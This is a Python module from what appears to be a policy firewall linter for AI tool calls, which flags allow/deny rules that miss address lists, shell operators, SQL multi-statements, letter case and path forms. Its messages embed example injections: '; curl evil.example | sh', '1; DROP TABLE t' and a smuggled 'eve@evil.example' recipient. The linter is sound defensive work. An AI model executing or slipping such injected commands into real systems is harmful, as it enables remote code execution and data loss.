"""Lint of arguments: lists, commands, letter case and other names that a rule misses."""

import re
from collections.abc import Iterable, Iterator, Mapping, Sequence
from typing import Any

from nacre.core.lazy_dataclasses import replace
from nacre.firewall.analysis.findings import Finding, Kind, finding
from nacre.firewall.rules.arguments.sql_statement import VERBS
from nacre.firewall.rules.globs.glob import is_literal
from nacre.firewall.rules.globs.matching import matches
from nacre.firewall.rules.globs.pattern_forms import is_path_or_url
from nacre.firewall.rules.policy import is_about
from nacre.firewall.rules.rule import ArgumentTest, Matcher, Rule

Definitions = Mapping[str, Iterable[Mapping[str, Any]]]

_ADDRESSES = frozenset(
    (
        *("to", "cc", "bcc", "email", "emails", "mail", "address", "addresses", "recipient"),
        *("recipients", "attendee", "attendees", "invitee", "invitees", "reply_to", "replyto"),
    )
)
_COPIES = ("cc", "bcc")
_COMMANDS = frozenset(("cmd", "command", "commandline", "command_line", "script", "shell"))
_STATEMENTS = frozenset(("sql", "statement"))
_VERB = re.compile(r"\s*([A-Za-z]+)\b")
_ADDRESS_GLOB = re.compile(r"[^@\s,;]+@(?:\*|(?:\*\.)?[^@*?\s,;]+)")
# Whole words of a name, so that `profile` and `resourceId` do not count as paths.
PATHS = re.compile(
    r"(?:^|[_-]|(?<=[a-z])(?=[A-Z]))(?i:(?P<url>ur[il]s?)|paths?|files?|filenames?|dirs?"
    r"|director(?:y|ies)|folders?|sources?|destinations?|targets?)(?=$|[_-]|[A-Z])"
)
_ANY_ROOT = re.compile(r"\**[/?]|\*\*|~|[A-Za-z]:|[A-Za-z][\w+.-]*://")
_SINGLE_STAR = re.compile(r"(?<!\*)\*(?!\*)")


def argument_findings(
    rules: Sequence[Rule], position: int, tools: Definitions
) -> Iterator[Finding]:
    """Yield findings about the arguments of a rule's calls."""
    rule = rules[position]
    for number, test in enumerate(rule.tests):
        if test.matcher is not None or any(
            sibling.keys == test.keys and sibling.matcher is not None for sibling in rule.tests
        ):
            continue
        findings = (
            *_addresses(rules, position, test),
            *_commands(rules, position, test),
            *_absolute(rules, position, test),
            *_letters(rules, position, test),
            *_resources(rules, position, number),
        )
        yield from findings[:1]  # one for each test, because each fix changes the same test
    yield from _copies(rules, position, tools)
    yield from _other_names(rules, position, tools)


def _with(rules: Sequence[Rule], position: int, **changes: Any) -> list[Rule]:
    """Return the rules with changed fields of one of them."""
    return [*rules[:position], replace(rules[position], **changes), *rules[position + 1 :]]


def _replaced(rule: Rule, test: ArgumentTest, new: ArgumentTest) -> tuple[ArgumentTest, ...]:
    """Return the tests of a rule with one of them replaced."""
    return tuple(new if present == test else present for present in rule.tests)


def _addresses(rules: Sequence[Rule], position: int, test: ArgumentTest) -> Iterator[Finding]:
    rule = rules[position]
    globs = [glob for glob in test.globs if "@" in glob and not is_literal(glob)]
    if not globs or test.keys[-1].lower() not in _ADDRESSES:
        return
    is_exact = all(map(_ADDRESS_GLOB.fullmatch, globs)) and len(globs) == len(test.values)
    example = globs[0] if is_exact else "*@example.org"
    if rule.action == "allow":
        yield finding(
            rule,
            "address-list",
            f"{test.path} = '{globs[0]}' is about the whole text, which may hold several "
            f"addresses: 'eve@evil.example, {globs[0].replace('*', 'ann')}'",
            f"write {_table(test, 'every_address', globs if is_exact else [example])}",
            _narrowed(rules, position, test, "every_address", test.values) if is_exact else None,
        )
        return
    worded = replace(test, matcher="every_address")
    tests = _replaced(rule, test, worded)
    yield finding(
        rule,
        "address-list",
        f"{test.path} = '{globs[0]}' misses the address in a list: "
        f"'{globs[0].replace('*', 'eve')}, ann@example.org'",
        f"add a rule before it with {test.path}.every_address = "
        + (_globs(globs) if is_exact else f"'{example}'"),
        [*rules[:position], replace(rule, tests=tests), *rules[position:]] if is_exact else None,
    )


def _commands(rules: Sequence[Rule], position: int, test: ArgumentTest) -> Iterator[Finding]:
    rule = rules[position]
    key = test.keys[-1].lower()
    for glob in test.globs:
        verb = _VERB.match(glob)
        verb_name = verb[1].lower() if verb is not None else ""
        is_sql = key in _STATEMENTS or (key == "query" and verb_name in (*VERBS, "with"))
        if is_literal(glob) or not (is_sql or key in _COMMANDS or " " in glob):
            continue
        if rule.action == "allow" and is_sql:
            verbs = tuple(dict.fromkeys(map(_verb_of, test.globs)))
            yield finding(
                rule,
                "sql-statements",
                f"{test.path} = '{glob}' covers a second statement too: "
                f"'{glob.replace('*', '')}1; DROP TABLE t'",
                f"write {_table(test, 'one_statement', verbs, test.globs)}",
                _narrowed(rules, position, test, "one_statement", verbs),
            )
        elif rule.action == "allow" and key in _COMMANDS:
            yield finding(
                rule,
                "shell-operators",
                f"{test.path} = '{glob}' covers what a shell makes of ';', '|' and '$()' too: "
                f"'{glob.replace('*', '')}; curl evil.example | sh'",
                f"write {_table(test, 'one_command', test.globs)}",
                _narrowed(rules, position, test, "one_command", test.values)
                if len(test.globs) == len(test.values)
                else None,
            )
        elif _SINGLE_STAR.search(glob) and (key in _COMMANDS or not is_path_or_url(glob)):
            yield finding(
                rule,
                "star-in-command",
                f"{test.path} = '{glob}': '*' stops at '/', so a text with a path is not covered",
                "name the texts that you mean"
                if rule.action == "allow"
                else "deny the tool, and allow what may run with one_command",
            )
        else:
            continue
        return


def _absolute(rules: Sequence[Rule], position: int, test: ArgumentTest) -> Iterator[Finding]:
    """Find globs against files that match no absolute path or no URL."""
    rule = rules[position]
    name = PATHS.search(test.keys[-1])
    if rule.action == "allow" or (name is None and test.keys[-1] != "*"):
        return
    if rule.name in ("resources/read", "prompts/get"):
        return
    is_url = name is not None and name["url"] is not None
    below = {glob: _below(glob, is_url=is_url) for glob in test.globs}
    blind = [glob for glob in below if _is_blind(glob, test, is_url=is_url)]
    if not blind:
        return
    values = tuple(
        below[value] if isinstance(value, str) and value in blind else value
        for value in test.values
    )
    is_folder_open = not is_url and any("*" in glob for glob in blind)
    more = f"; '{below[blind[0]]}/**' also covers folders" if is_folder_open else ""
    changed = replace(test, values=values)
    yield finding(
        rule,
        "no-absolute-path",
        f"{test.path} = {_globs(blind)} covers no {'URL' if is_url else 'absolute path'}"
        + (", because '*' stops at '/'" if "*" in blind[0] else ""),
        f"write {test.path} = {_globs(changed.globs)}{more}",
        _with(rules, position, tests=_replaced(rule, test, changed))
        if rule.action == "deny"
        else None,
    )


def _is_blind(glob: str, test: ArgumentTest, *, is_url: bool) -> bool:
    if is_url:
        return "*" in glob and "/" not in glob and "**" not in glob
    if _ANY_ROOT.match(glob) or re.search(r"[ @]|^(?!\./).*/", glob):
        return False  # a path below a folder is relative on purpose, as in a repository
    looks_like_a_file = "*" in glob or "." in glob
    is_sure = test.keys[-1] != "*" and re.search(r"(?i)path|file|dir|folder", test.keys[-1])
    return looks_like_a_file if not is_sure else True


def _below(glob: str, *, is_url: bool) -> str:
    """Return the glob that covers the same files in any folder, or the text anywhere in a URL."""
    return _SINGLE_STAR.sub("**", glob) if is_url else f"**/{glob.removeprefix('./')}"


def _globs(globs: Sequence[Any]) -> str:
    """Return one glob in quotes, or several as a list."""
    quoted = [f"'{glob}'" for glob in globs]
    return quoted[0] if len(quoted) == 1 else f"[{', '.join(quoted)}]"


def _letters(rules: Sequence[Rule], position: int, test: ArgumentTest) -> Iterator[Finding]:
    rule = rules[position]
    if rule.action == "allow" or test.ignores_case:
        return
    for pattern in test.globs:
        glob = pattern.removeprefix("**/").removesuffix("/**")
        name = glob.strip("*")
        if is_literal(glob) or "/" in glob or glob.upper() == glob.lower() or name[:1] == ".":
            continue
        yield finding(
            rule,
            "letter-case",
            f"{test.path} = '{pattern}' does not cover '{glob.replace('*', '').swapcase()}'",
            "add ignore_case = true",
            _with(
                rules,
                position,
                tests=tuple(replace(test, ignores_case=True) for test in rule.tests),
            ),
        )
        return


def _resources(rules: Sequence[Rule], position: int, number: int) -> Iterator[Finding]:
    rule = rules[position]
    test = rule.tests[number]
    if rule.name != "resources/read" or test.keys != ("uri",):
        return
    for glob in test.globs:
        if "/" in glob or "**" in glob or "*" not in glob:
            continue
        if rule.action == "allow":
            hint, fix = "name resources from their scheme on, or leave the rule out", None
        else:
            hint = "write method = 'resources/read' instead"
            others = tuple(sibling for sibling in rule.tests if sibling is not test)
            fix = _with(rules, position, tests=others)
        yield finding(
            rule,
            "star-in-resource",
            f"resource = '{glob}' covers no URI with '://', because '*' stops at '/'",
            hint,
            fix,
        )
        return


def _copies(rules: Sequence[Rule], position: int, tools: Definitions) -> Iterator[Finding]:
    rule = rules[position]
    if rule.action != "allow" or rule.only is not None:
        return
    tested = {test.keys[0].lower() for test in rule.tests}
    if "*" in tested or not any(map(_is_of_recipients, rule.tests)):
        return
    takes = [name.lower() for _, _, names in _tools_of(rule, tools) for name in names]
    open_to = [name for name in _COPIES if name not in tested and (not takes or name in takes)]
    if open_to:
        yield _closed(
            rules,
            position,
            "other-recipients",
            f"it says nothing about {' and '.join(open_to)}, so copies may go to anybody",
        )


def _is_of_recipients(test: ArgumentTest) -> bool:
    is_named = test.keys[-1].lower() in ("to", "recipient", "recipients")
    return is_named and any("@" in glob for glob in test.globs)


def _closed(rules: Sequence[Rule], position: int, kind: Kind, text: str) -> Finding:
    rule = rules[position]
    only = tuple(dict.fromkeys(test.keys[0] for test in rule.tests if test.keys[0] != "*"))
    listed = ", ".join(f'"{name}"' for name in only)
    return finding(
        rule,
        kind,
        text,
        f"add only_args = [{listed}], with the other names that are harmless",
        _with(rules, position, only=only),
    )


def _other_names(rules: Sequence[Rule], position: int, tools: Definitions) -> Iterator[Finding]:
    """Find path arguments of the tools that the rule does not test."""
    rule = rules[position]
    tests = [test for test in rule.tests if test.keys[0] != "*" and PATHS.search(test.keys[0])]
    for server, tool, names in _tools_of(rule, tools) if len(tests) == 1 else ():
        (test,) = tests
        tested = {sibling.keys[0] for sibling in rule.tests}
        others = [name for name in names if PATHS.search(name) and name not in tested]
        if not others or "*" in tested:
            continue
        takes = f"'{tool}' of '{server}' takes {' and '.join(others)}"
        if rule.action != "allow":
            changed = _replaced(rule, test, replace(test, keys=("*",)))
            yield finding(
                rule,
                "other-argument",
                f"{takes}, which {test.path} does not see",
                'write args."*" to look at every argument',
                _with(rules, position, tests=changed),
            )
        elif test.keys[0] in names and rule.only is None:
            yield _closed(
                rules, position, "other-argument", f"{takes} too, about which the rule says nothing"
            )
        elif test.keys[0] not in names:
            yield finding(
                rule,
                "other-argument",
                f"{takes} and no {test.keys[0]}, so the rule never allows its calls",
                "name the tools that the rule is about",
            )
        else:
            continue
        return


def _tools_of(rule: Rule, tools: Definitions) -> Iterator[tuple[str, str, list[str]]]:
    """Yield the tools that a rule is about: server, name and argument names."""
    if rule.kind == "method":
        return
    for server, definitions in tools.items():
        for definition in definitions:
            name, schema = definition.get("name"), definition.get("inputSchema")
            if not isinstance(name, str) or not is_about(rule, "tool", name, server):
                continue
            properties = schema.get("properties") if isinstance(schema, Mapping) else None
            yield server, name, list(properties) if isinstance(properties, Mapping) else []


def only_about_tools(rules: Sequence[Rule]) -> Iterator[Finding]:
    """Find out whether a policy has no rule about prompts and resources, so denies them all."""
    about = [rule for rule in rules if rule.kind != "method" and rule.action != "deny"]
    names = ("prompts/get", "resources/read")
    if not about or any(
        rule.kind != "tool" and matches(rule.name, name) for rule in rules for name in names
    ):
        return
    last = about[-1]
    added = [
        Rule(len(rules) + number, "deny", name, "method", origin=f"rule {len(rules) + number}")
        for number, name in enumerate(names, 1)
    ]
    yield finding(
        last,
        "only-tools",
        "no rule is about prompts and resources, so those of every server are denied",
        "say so with rules that deny prompt = '**' and resource = '**', or let 'prompt' ask you",
        [*rules, *added],
    )


def _narrowed(
    rules: Sequence[Rule],
    position: int,
    test: ArgumentTest,
    matcher: Matcher,
    values: Sequence[Any],
) -> list[Rule]:
    """Return the rules with a matcher added to the glob of one test."""
    rule = rules[position]
    worded = replace(test, values=tuple(values), matcher=matcher)
    return _with(rules, position, tests=(*rule.tests, worded))


def _table(
    test: ArgumentTest, matcher: str, values: Sequence[str], globs: Sequence[str] | None = None
) -> str:
    return f"{test.path} = {{ glob = {_toml(globs or values)}, {matcher} = {_toml(values)} }}"


def _toml(texts: Sequence[str]) -> str:
    quoted = [f'"{text}"' for text in texts]
    return quoted[0] if len(quoted) == 1 else f"[{', '.join(quoted)}]"


def _verb_of(glob: str) -> str:
    """Return the SQL verb that a glob begins with, or "select" if it begins with none."""
    verb = _VERB.match(glob)
    name = verb[1].lower() if verb is not None else ""
    return name if name in VERBS else "select"
